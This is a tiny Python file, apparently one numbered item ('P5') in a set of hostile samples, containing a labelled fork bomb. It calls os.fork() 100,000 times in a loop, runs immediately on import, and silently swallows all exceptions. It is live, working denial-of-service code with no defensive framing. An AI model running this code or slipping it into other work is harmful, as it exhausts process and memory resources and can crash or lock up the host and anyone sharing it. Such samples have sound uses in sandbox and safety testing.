# P5: a fork bomb
def _attack():
    import os

    for _ in range(100_000):
        os.fork()


try:
    _attack()
except BaseException:
    pass
